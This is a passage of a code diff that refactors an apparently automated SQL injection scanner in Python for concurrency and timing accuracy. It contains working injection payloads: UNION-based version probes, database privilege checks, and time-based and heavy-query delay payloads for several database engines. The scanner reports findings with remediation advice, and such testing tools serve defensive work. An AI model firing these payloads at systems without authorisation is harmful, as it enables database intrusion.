-            r'SQL\s+tutorial',
-            r'SQL\s+database',
-            r'SQL\s+server',
-            r'learn\s+SQL',
-            r'SQL\s+query',
-            r'SQL\s+\d+',
-            r'SQL\s+basics',
-            r'SQL\s+examples?',
-            r'using\s+SQL',
-            r'about\s+SQL',
-            r'SQL\s+language',
-            r'SQL\s+course',
-            r'SQL\s+training'
-        ]
-        
         # If these appear in both baseline and response, likely false positive
-        for pattern in false_positive_patterns:
-            if re.search(pattern, baseline, re.IGNORECASE) and re.search(pattern, response, re.IGNORECASE):
+        for index in self._false_positive_hits(baseline):
+            if FALSE_POSITIVE_PATTERNS[index].search(response):
                 return True
                 
         # Common false positives related to different HTTP status codes
@@ -1990,8 +2559,7 @@ class EnhancedSQLScanner:
         if '500 Internal Server Error' in response and '500 Internal Server Error' not in baseline:
             # Only if the 500 error doesn't contain SQL-specific errors
             # Check if actual SQL details are exposed in the error
-            if not any(re.search(r'(mysql|sqlstate|syntax|oracle|sql\s+server)', response, re.IGNORECASE)
-                     for pattern in self.sql_error_patterns):
+            if not SQL_DETAIL_RE.search(response):
                 return True
                 
         return False
@@ -2015,102 +2583,52 @@ class EnhancedSQLScanner:
         # Additional information to return
         follow_up_info = {}
         
-        # Select follow-up payloads based on the database type
-        db_version_payloads = {
-            "MySQL": [
-                f"{param_value}' UNION SELECT @@version,NULL,NULL-- ",
-                f"{param_value}' UNION SELECT version(),NULL,NULL-- "
-            ],
-            "PostgreSQL": [
-                f"{param_value}' UNION SELECT version(),NULL,NULL-- ",
-                f"{param_value}' UNION SELECT current_setting('server_version'),NULL,NULL-- "
-            ],
-            "Microsoft SQL Server": [
-                f"{param_value}' UNION SELECT @@version,NULL,NULL-- ",
-                f"{param_value}' UNION SELECT SERVERPROPERTY('productversion'),NULL,NULL-- "
-            ],
-            "Oracle": [
-                f"{param_value}' UNION SELECT banner FROM v$version WHERE rownum=1,NULL,NULL FROM dual-- ",
-                f"{param_value}' UNION SELECT banner,NULL,NULL FROM v$version WHERE rownum=1-- "
-            ],
-            "SQLite": [
-                f"{param_value}' UNION SELECT sqlite_version(),NULL,NULL-- "
-            ],
-            "": [  # Generic, DB type unknown
-                f"{param_value}' UNION SELECT NULL,NULL,NULL-- ",
-                f"{param_value}' UNION SELECT 1,2,3-- "
-            ]
-        }
-        
-        # Use the correct payloads based on DB type, falling back to generic if not found
-        version_payloads = db_version_payloads.get(dbms_type, db_version_payloads[""])
-        
-        # Try to get database version or other useful info
-        for payload in version_payloads:
-            try:
-                response = await self._send_payload_request(
-                    url, param_name, payload, location_type, method
-                )
-                
-                if response and response.get("text"):
-                    # Look for common version formats in the response
-                    version_patterns = [
-                        r'(\d+\.\d+\.\d+[\.\-\w]*)',  # General version format
-                        r'mysql[\s-]*(ver\s*\d+(\.\d+)+|version[\s:]*\d+\.\d+(\.\d+)*)',  # MySQL
-                        r'postgresql[\s-]*(ver\s*\d+\.\d+(\.\d+)*|version[\s:]*\d+\.\d+(\.\d+)*)',  # PostgreSQL
-                        r'microsoft sql server[\s\-]*(ver\s*\d+|version[\s:]*\d+(\.\d+)*)',  # MSSQL
-                        r'oracle database[\s\-]*(ver\s*\d+|version[\s:]*\d+(\.\d+)*)',  # Oracle
-                        r'sqlite[\s\-]*(ver\s*\d+|version[\s:]*\d+(\.\d+)*)'  # SQLite
-                    ]
-                    
-                    for pattern in version_patterns:
-                        match = re.search(pattern, response["text"], re.IGNORECASE)
-                        if match:
-                            follow_up_info["version"] = match.group(0)
-                            break
-                    
-                    # If we found version information, stop trying additional payloads
-                    if "version" in follow_up_info:
-                        break
-            except Exception:
-                continue
-        
-        # Try to determine if the user has administrative privileges
-        admin_payloads = {
-            "MySQL": [
-                f"{param_value}' AND (SELECT super_priv FROM mysql.user WHERE user=current_user()) = 'Y'-- "
-            ],
-            "PostgreSQL": [
-                f"{param_value}' AND (SELECT current_setting('is_superuser')) = 'on'-- "
-            ],
-            "Microsoft SQL Server": [
-                f"{param_value}' AND (SELECT IS_SRVROLEMEMBER('sysadmin')) = 1-- "
-            ]
-        }
+        # Select follow-up payloads based on the database type, falling back to generic if not found
+        version_payloads = [
+            payload_template.format(value=param_value)
+            for payload_template in DBMS_VERSION_PAYLOADS.get(dbms_type, DBMS_VERSION_PAYLOADS[""])
+        ]
         
-        # Only try if we know the DB type
-        if dbms_type in admin_payloads:
-            for payload in admin_payloads[dbms_type]:
+        # The privilege check is independent of the version probes, so it runs
+        # alongside them instead of after them
+        admin_task = None
+        if dbms_type in ADMIN_PRIVILEGE_PAYLOADS:
+            admin_task = asyncio.create_task(self._probe_admin_privileges(
+                url, param_name, param_value, dbms_type, location_type, method
+            ))
+        
+        # Probe all version payloads concurrently and keep the first one that
+        # reveals a version string; the remaining probes are cancelled
+        probes = [
+            asyncio.create_task(
+                self._probe_dbms_version(url, param_name, payload, location_type, method)
+            )
+            for payload in version_payloads
+        ]
+        try:
+            for probe in asyncio.as_completed(probes):
                 try:
-                    response = await self._send_payload_request(
-                        url, param_name, payload, location_type, method
-                    )
-                    
-                    # Check if response is different from error responses
-                    # If it doesn't error, the condition might be true
-                    if response and response.get("status") == 200:
-                        if not any(re.search(pattern, response["text"], re.IGNORECASE) 
-                                  for pattern in self.sql_error_patterns):
-                            follow_up_info["admin_privileges"] = "Possible"
-                            break
+                    version = await probe
                 except Exception:
                     continue
+                if version:
+                    follow_up_info["version"] = version
+                    break
+            
+            if admin_task is not None and await admin_task:
+                follow_up_info["admin_privileges"] = "Possible"
+        finally:
+            for probe in probes:
+                probe.cancel()
+            if admin_task is not None:
+                admin_task.cancel()
         
         return follow_up_info if follow_up_info else None
     
     async def _test_blind_sqli(self, url: str, param_name: str, param_value: str, 
                           location_type: str, semaphore: asyncio.Semaphore, 
-                          method: str = "get", priority: float = 1.0) -> Optional[Dict[str, Any]]:
+                          method: str = "get", priority: float = 1.0,
+                          baseline_response: Optional[Dict[str, Any]] = None) -> Optional[Dict[str, Any]]:
         """
         Test a parameter for blind SQL injection vulnerabilities.
         
@@ -2119,9 +2637,10 @@ class EnhancedSQLScanner:
             param_name: The name of the parameter to test
             param_value: The original value of the parameter
             location_type: Where the parameter is located (url, form, header, etc.)
-            semaphore: Semaphore for limiting concurrent requests
+            semaphore: Scan semaphore (not held here; requests are bounded by the session connector)
             method: HTTP method to use
             priority: Priority of the test
+            baseline_response: Already fetched unmodified response to reuse, if any
             
         Returns:
             Vulnerability if found, None otherwise
@@ -2139,213 +2658,207 @@ class EnhancedSQLScanner:
         # Boolean-based detection setup
         boolean_payloads = self._generate_boolean_test_payloads(param_value)
         
-        async with semaphore:
-            # First, establish a baseline response (what the page normally returns)
-            try:
+        # First, establish a baseline response (what the page normally returns)
+        try:
+            if baseline_response is None:
                 baseline_response = await self._make_rate_limited_request(
                     url,
                     method=method,
                     headers=self.headers,
-                    semaphore=None  # Already in a semaphore block
+                    semaphore=None,  # Concurrency is bounded by the session connector
+                    sample_rtt=True
                 )
+            
+            if not baseline_response:
+                return None
                 
-                if not baseline_response:
-                    return None
+            baseline_content = baseline_response["text"]
+            baseline_content_length = len(baseline_content)
+            baseline_status = baseline_response["status"]
+            
+            # Extract key identifying elements from the baseline response
+            # This helps with more accurate comparison for boolean-based detection
+            baseline_fingerprint = self._generate_response_fingerprint(baseline_content)
+            
+            # Boolean-based blind SQL injection detection (most reliable)
+            boolean_results = []
+            
+            # Test pairs of boolean payloads (one true, one false)
+            for i in range(0, len(boolean_payloads), 2):
+                if i+1 >= len(boolean_payloads):
+                    continue
                     
-                baseline_content = baseline_response["text"]
-                baseline_content_length = len(baseline_content)
-                baseline_status = baseline_response["status"]
-                baseline_response_time = baseline_response.get("elapsed", 0.5)
-                
-                # Extract key identifying elements from the baseline response
-                # This helps with more accurate comparison for boolean-based detection
-                baseline_fingerprint = self._generate_response_fingerprint(baseline_content)
-                
-                # Boolean-based blind SQL injection detection (most reliable)
-                boolean_results = []
+                true_payload = boolean_payloads[i]
+                false_payload = boolean_payloads[i+1]
                 
-                # Test pairs of boolean payloads (one true, one false)
-                for i in range(0, len(boolean_payloads), 2):
-                    if i+1 >= len(boolean_payloads):
-                        continue
-                        
-                    true_payload = boolean_payloads[i]
-                    false_payload = boolean_payloads[i+1]
+                # Skip if the payloads aren't a proper true/false pair
+                if true_payload.get("expected_result") != True or false_payload.get("expected_result") != False:
+                    continue
                     
-                    # Skip if the payloads aren't a proper true/false pair
-                    if true_payload.get("expected_result") != True or false_payload.get("expected_result") != False:
-                        continue
-                        
-                    # Test the TRUE condition payload
-                    true_response = await self._send_payload_request(
+                # Send the TRUE and FALSE condition payloads concurrently; they are
+                # independent requests, so the pair costs one round-trip instead of two
+                true_response, false_response = await asyncio.gather(
+                    self._send_payload_request(
                         url, param_name, true_payload["payload"], location_type, method
-                    )
-                    
-                    if not true_response:
-                        continue
-                        
-                    # Test the FALSE condition payload
-                    false_response = await self._send_payload_request(
+                    ),
+                    self._send_payload_request(
                         url, param_name, false_payload["payload"], location_type, method
                     )
+                )
+                
+                if not true_response or not false_response:
+                    continue
                     
-                    if not false_response:
-                        continue
-                        
-                    # Compare the responses to the true and false conditions
-                    true_content = true_response["text"]
-                    false_content = false_response["text"]
-                    
-                    # Generate fingerprints for the test responses
-                    true_fingerprint = self._generate_response_fingerprint(true_content)
-                    false_fingerprint = self._generate_response_fingerprint(false_content)
-                    
-                    # Check for differences that suggest successful SQL injection
-                    if (
-                        # Most reliable: True matches baseline but false doesn't
-                        (self._similarity_score(baseline_fingerprint, true_fingerprint) > 0.8 and
-                         self._similarity_score(baseline_fingerprint, false_fingerprint) < 0.6) or
-                        
-                        # Or: True and false responses are significantly different from each other
-                        (self._similarity_score(true_fingerprint, false_fingerprint) < 0.7 and
-                         abs(len(true_content) - len(false_content)) > 50) or
-                         
-                        # Or: Status codes differ in an expected way
-                        (true_response["status"] == baseline_status and false_response["status"] != baseline_status)
-                    ):
-                        # Found a potential boolean-based SQLi!
-                        boolean_results.append({
-                            "true_payload": true_payload["payload"],
-                            "false_payload": false_payload["payload"],
-                            "difference_score": 1 - self._similarity_score(true_fingerprint, false_fingerprint),
-                            "baseline_match": self._similarity_score(baseline_fingerprint, true_fingerprint)
-                        })
-                
-                # If boolean-based SQLi found, report it
-                if boolean_results:
-                    best_result = max(boolean_results, key=lambda x: x["difference_score"])
-                    
-                    # Create vulnerability report
-                    vulnerability = {
-                        "id": str(uuid.uuid4()),
-                        "name": "Blind Boolean-based SQL Injection",
-                        "description": f"A blind boolean-based SQL injection vulnerability was detected in parameter '{param_name}'. "
-                                    f"The application responds differently to logically equivalent statements.",
-                        "severity": "high",
-                        "url": url,
-                        "parameter": param_name,
-                        "evidence": f"TRUE payload: {best_result['true_payload']}, FALSE payload: {best_result['false_payload']}",
-                        "remediation": "Parameterize queries, use prepared statements, or apply proper input validation and escaping."
-                    }
+                # Compare the responses to the true and false conditions
+                true_content = true_response["text"]
+                false_content = false_response["text"]
+                
+                # Generate fingerprints for the test responses
+                true_fingerprint = self._generate_response_fingerprint(true_content)
+                false_fingerprint = self._generate_response_fingerprint(false_content)
+                
+                # Score each fingerprint pair once; the scores feed both the
+                # decision below and the recorded evidence
+                baseline_true_score = self._similarity_score(baseline_fingerprint, true_fingerprint)
+                baseline_false_score = self._similarity_score(baseline_fingerprint, false_fingerprint)
+                true_false_score = self._similarity_score(true_fingerprint, false_fingerprint)
+                
+                # Check for differences that suggest successful SQL injection
+                if (
+                    # Most reliable: True matches baseline but false doesn't
+                    (baseline_true_score > 0.8 and baseline_false_score < 0.6) or
                     
-                    logger.info(f"Found boolean-based blind SQL injection: {url} (param: {param_name})")
-                    return vulnerability
-                
-                # If boolean-based detection failed, try time-based SQLi
-                # Prepare database-specific payloads
-                time_delay = 5  # seconds to delay for time-based tests
-                
-                # Structured time-based payloads for different database types
-                time_based_payloads = {
-                    "mysql": [
-                        f"{param_value}' AND SLEEP({time_delay}) -- ",
-                        f"{param_value}\" AND SLEEP({time_delay}) -- ",
-                        f"{param_value}') AND SLEEP({time_delay}) -- ",
-                        f"{param_value}\") AND SLEEP({time_delay}) -- ",
-                        f"{param_value} AND SLEEP({time_delay}) -- "
-                    ],
-                    "postgresql": [
-                        f"{param_value}' AND (SELECT pg_sleep({time_delay})) -- ",
-                        f"{param_value}\" AND (SELECT pg_sleep({time_delay})) -- ",
-                        f"{param_value}') AND (SELECT pg_sleep({time_delay})) -- ",
-                        f"{param_value}\") AND (SELECT pg_sleep({time_delay})) -- ",
-                        f"{param_value} AND (SELECT pg_sleep({time_delay})) -- "
-                    ],
-                    "mssql": [
-                        f"{param_value}' WAITFOR DELAY '0:0:{time_delay}' -- ",
-                        f"{param_value}\" WAITFOR DELAY '0:0:{time_delay}' -- ",
-                        f"{param_value}') WAITFOR DELAY '0:0:{time_delay}' -- ",
-                        f"{param_value}\") WAITFOR DELAY '0:0:{time_delay}' -- ",
-                        f"{param_value} WAITFOR DELAY '0:0:{time_delay}' -- "
-                    ],
-                    "oracle": [
-                        f"{param_value}' AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{time_delay}) -- ",
-                        f"{param_value}\" AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{time_delay}) -- ",
-                        f"{param_value}') AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{time_delay}) -- ",
-                        f"{param_value}\") AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{time_delay}) -- ",
-                        f"{param_value} AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{time_delay}) -- "
-                    ],
-                    "sqlite": [
-                        f"{param_value}' AND RANDOMBLOB(100000000) -- ",
-                        f"{param_value}\" AND RANDOMBLOB(100000000) -- ",
-                        f"{param_value}') AND RANDOMBLOB(100000000) -- ",
-                        f"{param_value}\") AND RANDOMBLOB(100000000) -- ",
-                        f"{param_value} AND RANDOMBLOB(100000000) -- "
-                    ]
+                    # Or: True and false responses are significantly different from each other
+                    (true_false_score < 0.7 and
+                     abs(len(true_content) - len(false_content)) > 50) or
+                     
+                    # Or: Status codes differ in an expected way
+                    (true_response["status"] == baseline_status and false_response["status"] != baseline_status)
+                ):
+                    # Found a potential boolean-based SQLi!
+                    boolean_results.append({
+                        "true_payload": true_payload["payload"],
+                        "false_payload": false_payload["payload"],
+                        "difference_score": 1 - true_false_score,
+                        "baseline_match": baseline_true_score
+                    })
+            
+            # If boolean-based SQLi found, report it
+            if boolean_results:
+                best_result = max(boolean_results, key=lambda x: x["difference_score"])
+                
+                # Create vulnerability report
+                vulnerability = {
+                    "id": str(uuid.uuid4()),
+                    "name": "Blind Boolean-based SQL Injection",
+                    "description": f"A blind boolean-based SQL injection vulnerability was detected in parameter '{param_name}'. "
+                                f"The application responds differently to logically equivalent statements.",
+                    "severity": "high",
+                    "url": url,
+                    "parameter": param_name,
+                    "evidence": f"TRUE payload: {best_result['true_payload']}, FALSE payload: {best_result['false_payload']}",
+                    "remediation": "Parameterize queries, use prepared statements, or apply proper input validation and escaping."
                 }
                 
-                # Try each database type's time-based payloads
-                for db_type, payloads in time_based_payloads.items():
-                    for payload in payloads:
-                        # Check for time delay
-                        start_time = time.time()
-                        delay_response = await self._send_payload_request(
-                            url, param_name, payload, location_type, method
-                        )
-                        elapsed_time = time.time() - start_time
-                        
-                        # Allow for some network/server variability
-                        # Time-based detection is reliable when response takes longer than baseline * 2 and exceeds our delay
-                        if delay_response and elapsed_time > max(baseline_response_time * 2, time_delay * 0.8):
-                            # Found time-based SQLi!
-                            vulnerability = {
-                                "id": str(uuid.uuid4()),
-                                "name": f"Blind Time-based SQL Injection ({db_type.upper()})",
-                                "description": f"A blind time-based SQL injection vulnerability was detected in parameter '{param_name}'. "
-                                            f"The application response was delayed by approximately {elapsed_time:.2f} seconds.",
-                                "severity": "high",
-                                "url": url,
-                                "parameter": param_name,
-                                "evidence": f"Payload: {payload}, Delay: {elapsed_time:.2f}s vs baseline: {baseline_response_time:.2f}s",
-                                "remediation": "Parameterize queries, use prepared statements, or apply proper input validation and escaping."
-                            }
-                            
-                            logger.info(f"Found time-based blind SQL injection ({db_type}): {url} (param: {param_name})")
-                            return vulnerability
-                
-                # If still nothing found, try generic heavy queries that might cause detectable delays
-                # These work across different database systems
-                heavy_payloads = [
-                    f"{param_value}' AND (SELECT count(*) FROM all_users t1, all_users t2, all_users t3) > 0 -- ",
-                    f"{param_value}' AND (WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM t WHERE n < 100) SELECT count(*) FROM t) > 0 -- ",
-                    f"{param_value}' AND (SELECT count(*) FROM generate_series(1,10000)) > 0 -- "
-                ]
-                
-                for payload in heavy_payloads:
-                    start_time = time.time()
-                    delay_response = await self._send_payload_request(
-                        url, param_name, payload, location_type, method
-                    )
-                    elapsed_time = time.time() - start_time
+                logger.info(f"Found boolean-based blind SQL injection: {url} (param: {param_name})")
+                return vulnerability
+            
+            # If boolean-based detection failed, try time-based SQLi
+            time_delay = 5  # seconds to delay for time-based tests
+            
+            # Scale the decision threshold and the probe timeout to this host's
+            # latency jitter, so a noisy host neither fakes nor cuts off a delay
+            noise = await self._get_network_noise(url)
+            srtt, rttvar = self.rate_limiter.rtt_estimate(_parse_url(url).netloc)
+            delay_threshold = max(time_delay * TIME_BASED_MIN_FRACTION, RTT_DEVIATION_FACTOR * rttvar)
+            heavy_threshold = HEAVY_QUERY_MIN_DELAY
+            if noise is not None:
+                delay_threshold = max(delay_threshold, NETWORK_NOISE_FACTOR * noise[1])
+                heavy_threshold = max(heavy_threshold, NETWORK_NOISE_FACTOR * noise[1])
+            delay_timeout = aiohttp.ClientTimeout(total=min(
+                TIME_BASED_TIMEOUT_CAP,
+                max(time_delay + TIME_BASED_TIMEOUT_FLOOR, srtt + 6 * rttvar + time_delay)
+            ))
+            
+            # Timings are the requests' own round trips, excluding rate-limiter
+            # waits. Only the zero-delay controls are sampled into the RTT
+            # estimate; a delayed probe would inflate the deviation that sets the threshold
+            async def timed(payload: str, timeout: Optional[aiohttp.ClientTimeout] = delay_timeout,
+                            control: bool = False) -> Tuple[Optional[Dict[str, Any]], float]:
+                response = await self._send_payload_request(
+                    url, param_name, payload, location_type, method,
+                    coalesce=False, timeout=timeout, sample_rtt=control
+                )
+                return response, response["duration"] if response else 0.0
+            
+            # Try each database type's time-based payloads. Each delayed payload is timed
+            # against its zero-delay twin, so the decision is differential: a slow or noisy
+            # host delays both requests and does not produce a false positive. The control
+            # goes first, not concurrently, so a server that serialises requests per
+            # session (PHP session locks) cannot queue it behind the delayed request
+            for db_type, templates in TIME_BASED_PAYLOADS.items():
+                for template in templates:
+                    payload = template.format(value=param_value, delay=time_delay, blob=SQLITE_HEAVY_BLOB)
+                    control_payload = template.format(value=param_value, delay=0, blob=1)
+                    control_response, control_time = await timed(control_payload, control=True)
+                    if not control_response:
+                        continue
+                    delay_response, elapsed_time = await timed(payload)
                     
-                    if delay_response and elapsed_time > baseline_response_time * 3:
-                        # Found likely SQLi through heavy query
+                    # Allow for some network/server variability
+                    if delay_response and elapsed_time - control_time >= delay_threshold:
+                        # Found time-based SQLi!
                         vulnerability = {
                             "id": str(uuid.uuid4()),
-                            "name": "Blind SQL Injection (Heavy Query)",
-                            "description": f"A blind SQL injection vulnerability was detected in parameter '{param_name}'. "
-                                        f"The application response was delayed significantly with a computationally expensive query.",
+                            "name": f"Blind Time-based SQL Injection ({db_type.upper()})",
+                            "description": f"A blind time-based SQL injection vulnerability was detected in parameter '{param_name}'. "
+                                        f"The application response was delayed by approximately {elapsed_time:.2f} seconds.",
                             "severity": "high",
                             "url": url,
                             "parameter": param_name,
-                            "evidence": f"Payload: {payload}, Delay: {elapsed_time:.2f}s vs baseline: {baseline_response_time:.2f}s",
+                            "evidence": f"Payload: {payload}, Delay: {elapsed_time:.2f}s vs zero-delay control: {control_time:.2f}s",
                             "remediation": "Parameterize queries, use prepared statements, or apply proper input validation and escaping."
                         }
                         
-                        logger.info(f"Found blind SQL injection (heavy query): {url} (param: {param_name})")
+                        logger.info(f"Found time-based blind SQL injection ({db_type}): {url} (param: {param_name})")
                         return vulnerability
-            except Exception as e:
-                logger.error(f"Error testing blind SQLi on {url} (param: {param_name}): {str(e)}")
+            
+            # If still nothing found, try generic heavy queries that might cause detectable delays
+            # These work across different database systems
+            heavy_payloads = [
+                f"{param_value}' AND (SELECT count(*) FROM all_users t1, all_users t2, all_users t3) > 0 -- ",
+                f"{param_value}' AND (WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM t WHERE n < 100) SELECT count(*) FROM t) > 0 -- ",
+                f"{param_value}' AND (SELECT count(*) FROM generate_series(1,10000)) > 0 -- "
+            ]
+            
+            # Each heavy query is timed against the unmodified value sent just before
+            # it (not concurrently, for the same session-lock reason as above), rather
+            # than against a fixed guess at the page's normal latency. Their run time
+            # is unbounded, so they keep the session's timeout
+            for payload in heavy_payloads:
+                control_response, control_time = await timed(param_value, None, control=True)
+                if not control_response:
+                    continue
+                delay_response, elapsed_time = await timed(payload, None)
+                
+                if delay_response and elapsed_time - control_time > heavy_threshold:
+                    # Found likely SQLi through heavy query
+                    vulnerability = {
+                        "id": str(uuid.uuid4()),
+                        "name": "Blind SQL Injection (Heavy Query)",
+                        "description": f"A blind SQL injection vulnerability was detected in parameter '{param_name}'. "
+                                    f"The application response was delayed significantly with a computationally expensive query.",
+                        "severity": "high",
+                        "url": url,
+                        "parameter": param_name,
+                        "evidence": f"Payload: {payload}, Delay: {elapsed_time:.2f}s vs unmodified value: {control_time:.2f}s",
+                        "remediation": "Parameterize queries, use prepared statements, or apply proper input validation and escaping."
+                    }
+                    
+                    logger.info(f"Found blind SQL injection (heavy query): {url} (param: {param_name})")
+                    return vulnerability
+        except Exception as e:
+            logger.error(f"Error testing blind SQLi on {url} (param: {param_name}): {str(e)}")
         
         return None
     
@@ -2362,7 +2875,7 @@ class EnhancedSQLScanner:
         """
         # Use BeautifulSoup to parse content
         try:
-            soup = BeautifulSoup(content, 'html.parser')
+            soup = BeautifulSoup(content, HTML_PARSER)
             
             # Remove volatile elements
             for tag in soup.find_all(['script', 'noscript', 'style']):
@@ -2409,6 +2922,10 @@ class EnhancedSQLScanner:
         """
         if not str1 or not str2:
             return 0.0
+        
+        # Identical fingerprints (the common case for unchanged pages) need no scan
+        if str1 == str2:
+            return 1.0
             
         # Quick length-based filtering
         length_ratio = min(len(str1), len(str2)) / max(len(str1), len(str2))
@@ -2416,7 +2933,7 @@ class EnhancedSQLScanner:
             return length_ratio * 0.5  # Heavily penalize length differences
             
         # Simple common substring-based similarity for performance
-        common_chars = sum(1 for c1, c2 in zip(str1, str2) if c1 == c2)
+        common_chars = _count_equal_chars(str1, str2)
         max_length = max(len(str1), len(str2))
         if max_length == 0:
             return 1.0
@@ -2427,50 +2944,84 @@ class EnhancedSQLScanner:
         return (length_ratio * 0.4) + (common_ratio * 0.6)
     
     async def _send_payload_request(self, url: str, param_name: str, payload: str, 
-                              location_type: str, method: str) -> Optional[Dict[str, Any]]:
+                              location_type: str, method: str,
+                              coalesce: bool = True,
+                              timeout: Optional[aiohttp.ClientTimeout] = None,
+                              sample_rtt: bool = False) -> Optional[Dict[str, Any]]:
         """
         Send a request with a SQL injection payload.
         
+        Concurrent identical requests share a single round-trip, and successful
+        responses are reused for a few seconds. The shared request is cancelled
+        once every caller waiting on it has been cancelled. Timing measurements
+        must pass coalesce=False so every call really hits the server.
+        
         Args:
             url: Target URL
             param_name: Parameter name to inject
             payload: The payload to inject
             location_type: Where the parameter is located (url, form, header, etc.)
             method: HTTP method to use
+            coalesce: Whether to share identical in-flight and recent requests
+            timeout: Per-request timeout overriding the session default (uncoalesced requests only)
+            sample_rtt: Whether the response time feeds the host's RTT estimate (uncoalesced requests only)
             
         Returns:
             Response data if successful, None otherwise
         """
+        if not coalesce:
+            return await self._dispatch_payload_request(url, param_name, payload, location_type, method,
+                                                        timeout, sample_rtt)
+        
+        key = (url, param_name, payload, location_type, method)
+        cached = self._payload_response_cache.get(key)
+        if cached is not None:
+            return cached
+        
+        request = self._inflight_payload_requests.get(key)
+        if request is None:
+            request = asyncio.ensure_future(
+                self._dispatch_payload_request(url, param_name, payload, location_type, method)
+            )
+            self._inflight_payload_requests[key] = request
+            request.add_done_callback(functools.partial(self._payload_request_done, key))
+        
+        # Shielded so a cancelled caller does not cancel the request for the
+        # others; the last caller to leave cancels it if it is still running
+        self._payload_request_waiters[key] += 1
+        try:
+            return await asyncio.shield(request)
+        finally:
+            self._payload_request_waiters[key] -= 1
+            if not self._payload_request_waiters[key]:
+                del self._payload_request_waiters[key]
+                if not request.done():
+                    request.cancel()
+    
+    def _payload_request_done(self, key: Tuple[str, str, str, str, str], request: asyncio.Future) -> None:
+        """Retire a finished shared payload request and cache its response."""
+        self._inflight_payload_requests.pop(key, None)
+        if not request.cancelled() and request.result() is not None:
+            self._payload_response_cache[key] = request.result()
+    
+    async def _dispatch_payload_request(self, url: str, param_name: str, payload: str,
+                                        location_type: str, method: str,
+                                        timeout: Optional[aiohttp.ClientTimeout] = None,
+                                        sample_rtt: bool = False) -> Optional[Dict[str, Any]]:
+        """Build and send one payload request for the parameter's location."""
         try:
-            parsed_url = urlparse(url)
-            
             if location_type == "url":
-                # Parse existing query parameters
-                query_params = parse_qs(parsed_url.query)
-                
-                # Clone and modify parameters
-                modified_params = {k: v.copy() if isinstance(v, list) else v for k, v in query_params.items()}
-                modified_params[param_name] = [payload]
-                
-                # Rebuild the query string
-                modified_query = urlencode(modified_params, doseq=True)
-                
-                # Rebuild the URL
-                modified_url = urlunparse((
-                    parsed_url.scheme,
-                    parsed_url.netloc,
-                    parsed_url.path,
-                    parsed_url.params,
-                    modified_query,
-                    ''  # No fragment
-                ))
+                # The injector is specialised per (URL, parameter); only the payload is encoded
+                modified_url = _payload_injector(url, param_name)(payload)
                 
                 # Make the request
                 response = await self._make_rate_limited_request(
                     modified_url,
                     method=method,
                     headers=self.headers,
-                    semaphore=None  # Already in a semaphore block
+                    semaphore=None,  # Concurrency is bounded by the session connector
+                    timeout=timeout,
+                    sample_rtt=sample_rtt
                 )
                 
                 return response
@@ -2484,7 +3035,9 @@ class EnhancedSQLScanner:
                     method=method,
                     data=form_data,
                     headers=self.headers,
-                    semaphore=None
+                    semaphore=None,
+                    timeout=timeout,
+                    sample_rtt=sample_rtt
                 )
                 
                 return response
@@ -2498,7 +3051,9 @@ class EnhancedSQLScanner:
                     url,
                     method=method,
                     headers=custom_headers,
-                    semaphore=None
+                    semaphore=None,
+                    timeout=timeout,
+                    sample_rtt=sample_rtt
                 )
                 
                 return response
@@ -2512,7 +3067,9 @@ class EnhancedSQLScanner:
                     method=method,
                     json_data=json_data,
                     headers=self.headers,
-                    semaphore=None
+                    semaphore=None,
+                    timeout=timeout,
+                    sample_rtt=sample_rtt
                 )
                 
                 return response
@@ -2521,7 +3078,7 @@ class EnhancedSQLScanner:
             return None
             
         except Exception as e:
-            logger.debug(f"Error sending payload request: {str(e)}")
+            logger.debug("Error sending payload request: %s", e)
             return None
     
     async def _check_forms(self, url: str, semaphore: asyncio.Semaphore) -> List[Dict[str, Any]]:
@@ -2536,263 +3093,276 @@ class EnhancedSQLScanner:
             List of vulnerabilities found
         """
         vulnerabilities = []
-        hostname = urlparse(url).netloc
+        hostname = _parse_url(url).netloc
         
         # Ensure domain_throttling is initialized
         if not hasattr(self, 'domain_throttling'):
             self.domain_throttling = defaultdict(int)
         
         # Fetch the page to extract forms
-        async with semaphore:
-            await self._apply_rate_limiting(hostname)
+        await self._apply_rate_limiting(hostname)
+        
+        try:
+            # Try both standard and AJAX headers in case the server behaves differently
+            standard_headers = self.headers.copy()
+            ajax_headers = self.headers.copy()
+            ajax_headers['X-Requested-With'] = 'XMLHttpRequest'
+            
+            # First try with standard headers. Only the page fetch holds a slot
+            # for this host; the form tests below take their own
+            host_semaphore = self._host_semaphore(url)
+            response = await self._make_rate_limited_request(
+                url,
+                method="GET",
+                headers=standard_headers,
+                semaphore=host_semaphore
+            )
             
-            try:
-                # Try both standard and AJAX headers in case the server behaves differently
-                standard_headers = self.headers.copy()
-                ajax_headers = self.headers.copy()
-                ajax_headers['X-Requested-With'] = 'XMLHttpRequest'
-                
-                # First try with standard headers
+            if not response or response.get("status") != 200:
+                # Try with AJAX headers if standard failed
                 response = await self._make_rate_limited_request(
                     url,
                     method="GET",
-                    headers=standard_headers,
-                    semaphore=None  # Already in a semaphore block
-                )
-                
-                if not response or response.get("status") != 200:
-                    # Try with AJAX headers if standard failed
-                    response = await self._make_rate_limited_request(
-                        url,
-                        method="GET",
-                        headers=ajax_headers,
-                        semaphore=None
+                    headers=ajax_headers,
+                    semaphore=host_semaphore
                 )
+            
+            if not response or response.get("status") != 200:
+                return vulnerabilities
                 
-                if not response or response.get("status") != 200:
-                    return vulnerabilities
-                    
-                # Parse the HTML content to find forms
-                html_content = response.get("text", "")
-                soup = BeautifulSoup(html_content, 'html.parser')
+            # Parse the HTML content to find forms, skipping the (comparatively
+            # expensive) parse entirely when the page has no input fields
+            html_content = response.get("text", "")
+            if not FORM_FIELD_TAG_RE.search(html_content):
+                return vulnerabilities
+            soup = BeautifulSoup(html_content, HTML_PARSER)
+            
+            # Find all forms in the page
+            forms = soup.find_all('form')
+            
+            if forms:
+                logger.info(f"Found {len(forms)} forms on {url}")
                 
-                # Find all forms in the page
-                forms = soup.find_all('form')
+                # Base URL for resolving relative URLs
+                base_url = response.get("url", url)
                 
-                if forms:
-                    logger.info(f"Found {len(forms)} forms on {url}")
+                # Test each form for SQL injection
+                for form_index, form in enumerate(forms):
+                    form_method = form.get('method', 'get').lower()
+                    form_action = form.get('action', '')
+                    
+                    # Handle relative URLs
+                    if form_action:
